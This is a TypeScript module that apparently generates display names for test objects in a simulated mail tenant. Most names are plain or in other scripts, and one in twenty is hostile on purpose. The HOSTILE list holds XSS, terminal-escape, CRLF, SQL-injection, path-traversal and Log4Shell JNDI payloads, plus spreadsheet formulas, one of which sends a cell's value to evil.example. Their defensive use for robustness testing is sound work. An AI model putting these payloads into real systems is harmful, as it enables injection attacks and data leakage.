/** What people and rooms are called: mostly plain, some in other scripts, some hostile to whoever prints them. */
import { type Draw, drawsFor, pick } from "./random.ts";
import type { Kind } from "./kinds.ts";

/** Given names for addresses; ASCII. */
export const GIVEN_NAMES = (
  "anna ben carla david elena felix greta hugo ines jonas klara liam maria noah olga paul quentin rosa samuel " +
  "tina ulrich vera walter xenia yusuf zoe amira bogdan chloe dmitri esra fatima giorgos hana ivan jelena " +
  "kwame lucia mehmet nadia oskar priya rafael sofia tomas ursula viktor wei yuki zofia"
).split(" ");

/** `¤` stands for the family name. */
const INTERNATIONAL = [
  "山田 太郎 (¤)",
  "王 小明 ¤",
  "김민준 ¤",
  "محمد العربي ¤",
  "דוד כהן ¤",
  "Наталия Иванова-¤",
  "Ελένη Παπαδοπούλου (¤)",
  "सुनीता शर्मा ¤",
  "Nguyễn Thị ¤",
  "Jürgen Größe-¤",
  "Zoë Ångström ¤",
  // The same accent as its own code point: equal to the eye, not to a comparison.
  "Zoe\u0308 A\u030Angstro\u0308m ¤",
  "İpek Işık ¤",
  "สมชาย ¤",
  "¤ 👩‍💻",
  "¤ 🏳️‍🌈 Pride",
];

/** One object of so many has a hostile name, each kind of it in turn: a small tenant shows them all. */
const HOSTILE_EVERY = 20;

const HOSTILE = [
  "<script>alert('¤')</script>",
  "<img src=x onerror=alert(1)> ¤",
  "\u001b[31m¤\u001b[0m",
  "\u001b]0;pwned\u0007¤",
  "\u001b[2J\u001b[H¤",
  "\u202E¤\u202C",
  "\u2066¤\u2069 (admin)",
  "¤\r\nInjected: header",
  "¤\nsecond line",
  "¤\ttab",
  "¤\u2028line separator",
  '"¤", quoted; comma',
  '=HYPERLINK("http://evil.example/?x="&A1,"¤")',
  "=cmd|' /C calc'!A0 ¤",
  "+49 30 ¤",
  "-2+3 ¤",
  "@SUM(1+1)+¤",
  "\t=1+1 ¤",
  "¤ | pipe || pipes",
  "O'¤",
  "¤ & Söhne <GmbH>",
  "%s %n %00 ¤",
  "${jndi:ldap://evil.example/¤}",
  "{{constructor}} ¤",
  "../../etc/¤",
  "'; DROP TABLE mailboxes;-- ¤",
  "  ¤  ",
  "¤\u00A0\u200B\uFEFF",
  "\u0001¤\u007F\u0085",
  "C:\\temp\\¤",
  "__proto__ ¤",
  "null ¤",
  `¤ ${"very long ".repeat(23)}`,
];

const DEPARTMENTS = ["Sales", "Finance", "IT", "HR", "Legal", "R&D", "Support", "Marketing"];

const OF_THINGS: Partial<Record<Kind, readonly string[]>> = {
  shared: ["Info ¤", "Invoices ¤", "Support ¤", "Team ¤", "Kundenservice ¤", "HR (¤)", "Vertrieb-¤"],
  room: ["Room ¤", "Meeting Room ¤ (8)", "Salle ¤", "Besprechung ¤", "Conf/¤"],
  equipment: ["Projector ¤", "Car ¤", "Beamer ¤"],
  scheduling: ["Bookings ¤"],
  system: ["Microsoft Exchange ¤", "SystemMailbox ¤", "Migration ¤"],
  "group-mailbox": ["Project ¤", "Team ¤", "¤ & Friends"],
  distribution: ["All ¤", "DL ¤", "News, ¤"],
  "mail-security": ["SG ¤", "Role ¤"],
  security: ["Local Admins ¤", "App ¤ Users"],
  dynamic: ["Everybody ¤"],
};

/** Gives every object its display name; `hostile` off leaves only tame names. */
export class DisplayNames {
  readonly #style: Draw;
  readonly #given: Draw;
  readonly #hostile: () => boolean;

  constructor(seed: number, hostile: () => boolean) {
    this.#style = drawsFor(seed, "display name style");
    this.#given = drawsFor(seed, "given name");
    this.#hostile = hostile;
  }

  givenName(index: number): string {
    return pick(GIVEN_NAMES, this.#given(index));
  }

  /** @param tag the family name in lower case */
  of(index: number, kind: Kind, tag: string): string {
    const family = capital(tag);
    const style = this.#style(index);
    const hundredth = style % 100;
    const choice = style >>> 8;
    if (index % HOSTILE_EVERY === HOSTILE_EVERY - 1 && this.#hostile())
      return pick(HOSTILE, Math.floor(index / HOSTILE_EVERY)).replaceAll("¤", family);
    const thing = OF_THINGS[kind];
    if (thing !== undefined) return pick(thing, choice).replace("¤", family);
    if (hundredth < 12) return pick(INTERNATIONAL, choice).replace("¤", family);
    const given = capital(this.givenName(index));
    if (hundredth < 22) return `${family}, ${given}`;
    if (hundredth < 30) return `${given} ${family} (${pick(DEPARTMENTS, choice)})`;
    return `${given} ${family}`;
  }
}

export function capital(word: string): string {
  return word.charAt(0).toUpperCase() + word.slice(1);
}
